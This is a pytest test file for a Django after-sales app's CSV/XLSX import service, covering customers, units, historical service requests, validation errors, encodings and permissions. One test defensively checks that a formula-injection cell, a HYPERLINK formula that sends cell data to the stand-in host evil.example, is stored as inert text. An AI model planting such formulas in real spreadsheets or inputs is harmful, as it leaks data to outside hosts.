import datetime

import pytest
from django.utils import timezone

from aftersales.catalog.models import Unit
from aftersales.core.errors import Conflict, DomainError, NotAllowed
from aftersales.customers.models import Customer
from aftersales.followups.models import FollowUp
from aftersales.imports import services
from aftersales.imports.models import ImportJob, ImportKey
from aftersales.imports.tests.files import CUSTOMERS, csv_bytes, xlsx_bytes
from aftersales.notifications.models import OutboxMessage
from aftersales.search.selectors import search_filter
from aftersales.service_requests import numbering, sla_sweep
from aftersales.service_requests.models import (
    Assignment,
    ServiceRequest,
    ServiceRequestEvent,
)
from aftersales.service_requests.tests.factories import make_request

pytestmark = pytest.mark.django_db
Status = ImportJob.Status


def run(kind, rows, by, *, name="data.csv", data=None, dry_run=False):
    data = data if data is not None else csv_bytes(rows)
    return services.import_file(kind=kind, file_name=name, data=data, by=by, dry_run=dry_run)


# --- Customers -------------------------------------------------------------------------------


def test_customers_import_and_a_second_run_changes_nothing(admin_user):
    job = run("customers", CUSTOMERS, admin_user)
    assert job.status == Status.IMPORTED, job.errors
    assert (job.rows_total, job.rows_new, job.rows_updated, job.rows_unchanged) == (3, 3, 0, 0)
    wang = Customer.objects.get(name="王芳")
    assert wang.phone_key == "13700000001" and wang.email_key == "wang@example.cn"
    assert Customer.objects.get(name="上海恒达物业有限公司").kind == "organisation"
    assert ImportKey.objects.filter(kind="customers", key="C-1", object_id=wang.pk).exists()

    again = run("customers", CUSTOMERS, admin_user)
    assert again.status == Status.IMPORTED
    assert (again.rows_new, again.rows_updated, again.rows_unchanged) == (0, 0, 3)
    assert Customer.objects.count() == 3


def test_customers_matched_by_phone_are_updated_not_duplicated(admin_user, customer_a):
    rows = [["phone", "name", "address"], ["138-0013-8000", "张三", "北京市朝阳区1号"]]
    job = run("customers", rows, admin_user)
    assert (job.rows_new, job.rows_updated) == (0, 1)
    customer_a.refresh_from_db()
    assert customer_a.address == "北京市朝阳区1号"
    assert Customer.objects.count() == 1


def test_chinese_headers_bom_and_gb18030_are_read(admin_user):
    rows = [["姓名", "电话", "邮箱"], ["李娜", "13600000009", "lina@example.cn"]]
    bom = services.import_validate(
        kind="customers",
        file_name="a.csv",
        data=csv_bytes(rows, encoding="utf-8-sig"),
        by=admin_user,
    )
    assert bom.status == Status.VALIDATED and bom.encoding == "utf-8-sig"
    gbk = services.import_validate(
        kind="customers", file_name="b.csv", data=csv_bytes(rows, encoding="gb18030"), by=admin_user
    )
    assert gbk.status == Status.VALIDATED and gbk.encoding == "gb18030"
    plain = services.import_validate(
        kind="customers", file_name="c.csv", data=csv_bytes(rows), by=admin_user
    )
    assert plain.encoding == "utf-8"
    job = services.import_run(gbk, by=admin_user)
    assert job.status == Status.IMPORTED
    assert Customer.objects.get(phone_key="13600000009").name == "李娜"


def test_xlsx_formula_cells_are_text_never_evaluated(admin_user):
    rows = [
        ["name", "phone", "address"],
        ['=HYPERLINK("http://evil.example/?"&A1,"click")', 13500000001, "=1+1"],
    ]
    job = run("customers", rows, admin_user, name="c.xlsx", data=xlsx_bytes(rows))
    assert job.status == Status.IMPORTED, job.errors
    assert job.file_format == "xlsx"
    customer = Customer.objects.get()
    assert customer.name == '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert customer.address == "=1+1"
    # A phone typed as a number is its digits, not "13500000001.0".
    assert customer.phone == "13500000001"


def test_errors_name_row_column_and_value_and_nothing_is_written(admin_user):
    rows = [
        ["name", "phone", "email", "kind"],
        ["甲", "13700000001", "", ""],
        ["", "13700000002", "", ""],  # row 3: no name
        ["丙", "", "not-an-email", ""],  # row 4: bad email
        ["丁", "13700000001", "", ""],  # row 5: same phone as row 2
        ["戊", "13700000005", "", "robot"],  # row 6: unknown kind
    ]
    job = run("customers", rows, admin_user)
    assert job.status == Status.FAILED
    assert Customer.objects.count() == 0
    found = {(e["row"], e["column"]) for e in job.errors}
    assert found == {(3, "name"), (4, "email"), (5, "phone"), (6, "kind")}
    duplicate = next(e for e in job.errors if e["row"] == 5)
    assert "2" in duplicate["message"] and "5" in duplicate["message"]
    assert duplicate["value"] == "13700000001"
    assert job.content == b""


def test_unknown_and_missing_columns_are_errors_of_row_one(admin_user):
    job = run("customers", [["名字?", "phone"], ["x", "1"]], admin_user)
    assert job.status == Status.FAILED
    assert {(e["row"], e["column"]) for e in job.errors} == {(1, "名字?"), (1, "name")}


def test_unreadable_files_are_refused_naming_the_file(admin_user, settings):
    with pytest.raises(DomainError) as caught:
        run("customers", [], admin_user, name="x.pdf", data=b"%PDF-1.4")
    assert "file" in caught.value.fields
    with pytest.raises(DomainError):
        run("customers", [], admin_user, name="x.xlsx", data=b"PK\x03\x04garbage")
    with pytest.raises(DomainError):
        run("customers", [], admin_user, name="x.csv", data=b"\xff\xfe\x00\x00\x81")
    settings.IMPORT_MAX_ROWS = 2
    rows = [["name", "phone"], ["a", "1"], ["b", "2"], ["c", "3"]]
    with pytest.raises(DomainError) as caught:
        run("customers", rows, admin_user)
    assert "2" in caught.value.message
    assert not ImportJob.objects.exists()


def test_who_may_import_what(admin_user, supervisor, agent):
    assert run("customers", CUSTOMERS, supervisor).status == Status.IMPORTED
    with pytest.raises(NotAllowed):
        run("requests", [["title"]], supervisor)
    with pytest.raises(NotAllowed):
        run("customers", CUSTOMERS, agent)


def test_a_validated_job_is_imported_once(admin_user):
    job = services.import_validate(
        kind="customers", file_name="a.csv", data=csv_bytes(CUSTOMERS), by=admin_user
    )
    services.import_run(job, by=admin_user)
    with pytest.raises(Conflict):
        services.import_run(job, by=admin_user)
    assert Customer.objects.count() == 3


def test_the_confirm_step_checks_again(admin_user):
    rows = [["name", "phone", "external_id"], ["甲", "13700000001", "C-9"]]
    job = services.import_validate(
        kind="customers", file_name="a.csv", data=csv_bytes(rows), by=admin_user
    )
    assert job.status == Status.VALIDATED
    # Meanwhile another file claims the same phone under another external id: fine (matched,
    # updated); but a row that became invalid would fail the job with a new report.
    Customer.objects.create(name="甲", phone="13700000001")
    job = services.import_run(job, by=admin_user)
    assert job.status == Status.IMPORTED
    assert (job.rows_new, job.rows_unchanged) == (0, 1)
    assert Customer.objects.count() == 1


# --- Units -----------------------------------------------------------------------------------


UNITS = [
    [
        "serial_number",
        "product_model",
        "batch_number",
        "production_date",
        "purchase_date",
        "purchase_channel",
        "customer_phone",
    ],
    ["SN-1", "KFR-35GW", "B1", "2025-01-02", "2025-02-03", "online", "13800138000"],
    ["SN-2", "kfr-35gw", "", "", "2025/03/04", "经销商", ""],
]


def test_units_import_by_serial_and_rerun(admin_user, product, customer_a):
    job = run("units", UNITS, admin_user)
    assert job.status == Status.IMPORTED, job.errors
    unit = Unit.objects.get(serial_number="SN-1")
    assert unit.customer == customer_a and unit.product == product
    assert unit.purchase_date == datetime.date(2025, 2, 3)
    assert unit.warranty_end == datetime.date(2027, 2, 3)
    assert Unit.objects.get(serial_number="SN-2").purchase_channel == "dealer"
    again = run("units", UNITS, admin_user)
    assert (again.rows_new, again.rows_updated, again.rows_unchanged) == (0, 0, 2)
    changed = [UNITS[0], ["SN-1", "KFR-35GW", "B9", "", "", "", ""]]
    job = run("units", changed, admin_user)
    assert (job.rows_new, job.rows_updated) == (0, 1)
    unit.refresh_from_db()
    assert unit.batch_number == "B9" and unit.customer == customer_a


def test_unit_errors(admin_user, product):
    rows = [
        UNITS[0],
        ["SN-1", "NOPE", "", "", "", "", ""],
        ["SN-2", "KFR-35GW", "", "2025-05-01", "2025-04-01", "", ""],
        ["SN-3", "KFR-35GW", "", "yesterday", "", "", ""],
        ["SN-4", "KFR-35GW", "", "", "", "", "19999999999"],
        ["SN-4", "KFR-35GW", "", "", "", "", ""],
    ]
    job = run("units", rows, admin_user)
    assert job.status == Status.FAILED
    assert {(e["row"], e["column"]) for e in job.errors} == {
        (2, "product_model"),
        (3, "purchase_date"),
        (4, "production_date"),
        (5, "customer_phone"),
        (6, "serial_number"),
    }
    assert not Unit.objects.exists()


# --- Historical requests ---------------------------------------------------------------------

REQUEST_HEADER = [
    "external_reference",
    "received_at",
    "title",
    "customer_phone",
    "serial_number",
    "status",
    "resolved_at",
    "closed_at",
    "resolution",
    "assignee",
    "team",
    "priority",
    "channel",
    "cancelled_at",
]


def _history_rows():
    return [
        REQUEST_HEADER,
        [
            "OLD-1",
            "2025-03-01 09:30",
            "空调不制冷",
            "13800138000",
            "SN-1",
            "closed",
            "2025-03-02 15:00",
            "2025-03-05 10:00",
            "更换电容",
            "tech1",
            "一线技术组",
            "high",
            "phone",
            "",
        ],
        [
            "OLD-2",
            "2025-03-03 08:00",
            "噪音大",
            "13800138000",
            "",
            "resolved",
            "2025-03-03 18:00",
            "",
            "紧固螺丝",
            "",
            "",
            "",
            "",
            "",
        ],
        [
            "OLD-3",
            "2025-03-04 08:00",
            "咨询保修",
            "13800138000",
            "",
            "cancelled",
            "",
            "",
            "",
            "",
            "",
            "low",
            "email",
            "2025-03-04 09:00",
        ],
    ]


def test_historical_requests_keep_their_dates_and_trigger_nothing(
    admin_user, customer_a, product, technician, team_a
):
    Unit.objects.create(product=product, customer=customer_a, serial_number="SN-1")
    rows = _history_rows()
    mails_before = OutboxMessage.objects.count()
    job = run("requests", rows, admin_user, name="history.csv")
    assert job.status == Status.IMPORTED, job.errors
    assert job.rows_new == 3

    closed = ServiceRequest.objects.get(title="空调不制冷")
    assert closed.status == "closed"
    assert closed.number.startswith("SR-20250301-")
    assert closed.received_at == datetime.datetime(2025, 3, 1, 1, 30, tzinfo=datetime.UTC)
    assert closed.resolved_at == datetime.datetime(2025, 3, 2, 7, 0, tzinfo=datetime.UTC)
    assert closed.closed_at == datetime.datetime(2025, 3, 5, 2, 0, tzinfo=datetime.UTC)
    assert closed.resolution == "更换电容"
    assert closed.unit.serial_number == "SN-1" and closed.product == product
    assert (closed.assignee, closed.team, closed.priority) == (technician, team_a, "high")
    assert closed.channel == "phone"
    assert closed.first_response_due_at is not None and closed.resolution_due_at is not None
    assert closed.first_responded_at == closed.resolved_at
    events = list(closed.events.order_by("created_at", "id"))
    assert [(e.kind, e.action, e.to_status) for e in events] == [
        ("created", "", "new"),
        ("status_changed", "resolve", "resolved"),
        ("status_changed", "close", "closed"),
        ("updated", "import.imported", ""),
    ]
    assert events[0].created_at == closed.received_at
    assert events[2].created_at == closed.closed_at
    assert events[3].actor == admin_user and events[3].is_internal
    assert "history.csv" in events[3].note
    assignment = Assignment.objects.get(request=closed)
    assert assignment.assignee == technician and assignment.ended_at == closed.closed_at

    resolved = ServiceRequest.objects.get(title="噪音大")
    assert resolved.status == "resolved" and resolved.channel == "import"
    cancelled = ServiceRequest.objects.get(title="咨询保修")
    assert cancelled.status == "cancelled" and cancelled.cancelled_at is not None

    # No receipt mail, no follow-up, nothing for the SLA sweep to announce.
    assert OutboxMessage.objects.count() == mails_before
    assert not FollowUp.objects.exists()
    assert not ServiceRequest.objects.filter(sla_sweep.due_for_sweep(timezone.now())).exists()
    assert sla_sweep.sla_sweep() == 0
    # The search finds them.
    found = search_filter(ServiceRequest.objects.all(), "更换电容", include_internal=False)
    assert list(found) == [closed]

    again = run("requests", rows, admin_user)
    assert (again.rows_new, again.rows_unchanged) == (0, 3)
    assert ServiceRequest.objects.count() == 3


def test_given_numbers_are_kept_and_the_counter_moves_past_them(admin_user, customer_a, agent):
    rows = [
        ["number", "received_at", "title", "customer_phone", "status", "resolved_at", "resolution"],
        [
            "SR-20261101-0007",
            "2026-11-01 10:00",
            "旧单",
            "13800138000",
            "resolved",
            "2026-11-01 12:00",
            "已处理",
        ],
    ]
    job = run("requests", rows, admin_user)
    assert job.status == Status.IMPORTED, job.errors
    assert ServiceRequest.objects.filter(number="SR-20261101-0007").exists()
    day = datetime.datetime(2026, 11, 1, 3, 0, tzinfo=datetime.UTC)
    assert numbering.next_number(day) == "SR-20261101-0008"
    again = run("requests", rows, admin_user)
    assert again.rows_unchanged == 1
    live = make_request(by=agent, customer=customer_a)
    rows[1][0] = live.number
    clash = run("requests", rows, admin_user)
    assert clash.status == Status.FAILED
    assert clash.errors[0]["column"] == "number"


def test_rows_without_reference_are_known_by_their_content(admin_user, customer_a):
    rows = [
        ["received_at", "title", "customer_phone", "status"],
        ["2026-01-05 10:00", "旧单一", "13800138000", "new"],
        ["2026-01-05 10:00", "旧单一", "13800138000", "new"],
    ]
    job = run("requests", rows, admin_user)
    assert job.status == Status.FAILED
    assert job.errors[0]["row"] == 3 and "2" in job.errors[0]["message"]
    job = run("requests", rows[:2], admin_user)
    assert job.status == Status.IMPORTED
    assert run("requests", rows[:2], admin_user).rows_unchanged == 1
    assert ServiceRequest.objects.count() == 1
    request = ServiceRequest.objects.get()
    # An open request imported with old deadlines is not announced as breached.
    assert request.first_response_breached_at is not None
    assert sla_sweep.sla_sweep() == 0


def test_one_bad_row_writes_nothing(admin_user, customer_a):
    rows = [["received_at", "title", "customer_phone", "status", "resolved_at", "resolution"]]
    rows += [
        [
            f"2025-06-{day:02d} 10:00",
            f"单{day}",
            "13800138000",
            "resolved",
            f"2025-06-{day:02d} 12:00",
            "好了",
        ]
        for day in range(1, 29)
    ]
    rows.append(["2025-07-01 10:00", "坏", "13800138000", "resolved", "", "好了"])
    job = run("requests", rows, admin_user)
    assert job.status == Status.FAILED
    assert job.errors == [
        {"row": 30, "column": "resolved_at", "value": "", "message": "Required for this status."}
    ]
    assert not ServiceRequest.objects.exists()
    assert not ServiceRequestEvent.objects.exists()


def test_request_row_errors(admin_user, customer_a, agent):
    future = (timezone.now() + datetime.timedelta(days=2)).strftime("%Y-%m-%d %H:%M")
    rows = [
        [
            "received_at",
            "title",
            "customer_phone",
            "status",
            "resolved_at",
            "closed_at",
            "resolution",
            "assignee",
        ],
        [future, "甲", "13800138000", "new", "", "", "", ""],
        ["2025-01-01 10:00", "乙", "19900000000", "new", "", "", "", ""],
        ["2025-01-01 10:00", "丙", "13800138000", "pending_approval", "", "", "", ""],
        [
            "2025-01-01 10:00",
            "丁",
            "13800138000",
            "closed",
            "2025-01-03 10:00",
            "2025-01-02 10:00",
            "x",
            "",
        ],
        ["2025-01-01 10:00", "戊", "13800138000", "in_progress", "", "", "", ""],
        ["2025-01-01 10:00", "己", "13800138000", "new", "", "", "", "nobody"],
        ["2025-01-01 10:00", "庚", "13800138000", "resolved", "2024-12-31 10:00", "", "x", ""],
        ["2025-01-01 10:00", "", "13800138000", "new", "", "", "", ""],
    ]
    job = run("requests", rows, admin_user)
    assert {(e["row"], e["column"]) for e in job.errors} == {
        (2, "received_at"),
        (3, "customer_phone"),
        (4, "status"),
        (5, "closed_at"),
        (6, "assignee"),
        (7, "assignee"),
        (8, "resolved_at"),
        (9, "title"),
    }


def test_references_are_kept_and_clash_with_live_ones_of_the_channel(admin_user, customer_a, agent):
    rows = [
        ["external_reference", "channel", "received_at", "title", "customer_phone", "status"],
        ["D-1", "dealer", "2026-01-05 10:00", "经销商旧单", "13800138000", "new"],
    ]
    job = run("requests", rows, admin_user)
    assert job.status == Status.IMPORTED, job.errors
    assert ServiceRequest.objects.get().external_reference == "D-1"
    live = make_request(by=agent, customer=customer_a)
    ServiceRequest.objects.filter(pk=live.pk).update(channel="dealer", external_reference="D-2")
    rows[1][0] = "D-2"
    clash = run("requests", rows, admin_user)
    assert clash.status == Status.FAILED
    assert (clash.errors[0]["row"], clash.errors[0]["column"]) == (2, "external_reference")


def test_imported_history_shows_in_the_request_list(admin_user, customer_a):
    from rest_framework.test import APIClient

    rows = [
        ["received_at", "title", "customer_phone", "status", "resolved_at", "resolution"],
        ["2025-05-01 09:00", "历史单", "13800138000", "resolved", "2025-05-02 09:00", "已修复"],
    ]
    assert run("requests", rows, admin_user).status == Status.IMPORTED
    client = APIClient()
    client.force_authenticate(admin_user)
    body = client.get("/api/v1/service-requests/", {"status": "resolved"}).json()
    found = [r for r in body["results"] if r["title"] == "历史单"]
    assert len(found) == 1
    assert found[0]["received_at"] == "2025-05-01T09:00:00+08:00"
    assert found[0]["status"] == "resolved"


def test_ten_thousand_rows_in_one_go(admin_user, customer_a, product, settings):
    import time

    rows = [
        [
            "external_reference",
            "received_at",
            "title",
            "customer_phone",
            "status",
            "resolved_at",
            "closed_at",
            "resolution",
        ]
    ]
    for n in range(10_000):
        day = 1 + n % 28
        rows.append(
            [
                f"BULK-{n}",
                f"2025-02-{day:02d} 09:00",
                f"历史单{n}",
                "13800138000",
                "closed",
                f"2025-02-{day:02d} 12:00",
                f"2025-02-{day:02d} 18:00",
                "已处理",
            ]
        )
    started = time.perf_counter()
    job = run("requests", rows, admin_user)
    seconds = time.perf_counter() - started
    assert job.status == Status.IMPORTED, job.errors[:3]
    assert ServiceRequest.objects.count() == 10_000
    assert ServiceRequestEvent.objects.count() == 40_000
    assert len(set(ServiceRequest.objects.values_list("number", flat=True))) == 10_000
    assert seconds < 120, seconds


def test_two_rows_that_are_one_stored_customer(admin_user, customer_a):
    rows = [
        ["name", "phone", "email"],
        ["张三", "13800138000", ""],
        ["张三丰", "", "zhang@example.com"],
    ]
    job = run("customers", rows, admin_user)
    assert job.status == Status.FAILED
    assert [(e["row"], e["column"]) for e in job.errors] == [(3, "email")]
    customer_a.refresh_from_db()
    assert customer_a.name == "张三"


def test_times_as_spreadsheets_write_them(admin_user, customer_a):
    import datetime as dt

    rows = [
        ["received_at", "title", "customer_phone", "status", "resolved_at", "resolution"],
        ["2025/3/1 9:30", "甲", "13800138000", "已解决", "2025-03-01T10:00:00+08:00", "好"],
        ["2025-03-02", "乙", "13800138000", "new", "", ""],
    ]
    # Excel keeps a date cell without a zone: service time.
    excel_date = dt.datetime(2025, 3, 3, 8, 0)  # noqa: DTZ001
    data = xlsx_bytes([*rows, [excel_date, "丙", "13800138000", "new", "", ""]])
    job = run("requests", rows, admin_user, name="t.xlsx", data=data)
    assert job.status == Status.IMPORTED, job.errors
    times = dict(ServiceRequest.objects.values_list("title", "received_at"))
    assert times["甲"] == dt.datetime(2025, 3, 1, 1, 30, tzinfo=dt.UTC)
    assert times["乙"] == dt.datetime(2025, 3, 1, 16, 0, tzinfo=dt.UTC)
    assert times["丙"] == dt.datetime(2025, 3, 3, 0, 0, tzinfo=dt.UTC)
    assert ServiceRequest.objects.get(title="甲").status == "resolved"


def test_a_renamed_customer_is_found_by_search_on_their_requests(admin_user, customer_a, agent):
    request = make_request(by=agent, customer=customer_a)
    rows = [["phone", "name"], ["13800138000", "张三丰"]]
    assert run("customers", rows, admin_user).rows_updated == 1
    found = search_filter(ServiceRequest.objects.all(), "张三丰", include_internal=False)
    assert list(found) == [request]


def test_units_name_their_customer_by_external_id(admin_user, product):
    run("customers", CUSTOMERS, admin_user)
    rows = [["serial_number", "product_model", "customer_external_id"], ["SN-9", "KFR-35GW", "C-2"]]
    assert run("units", rows, admin_user).status == Status.IMPORTED
    assert Unit.objects.get().customer.name == "上海恒达物业有限公司"
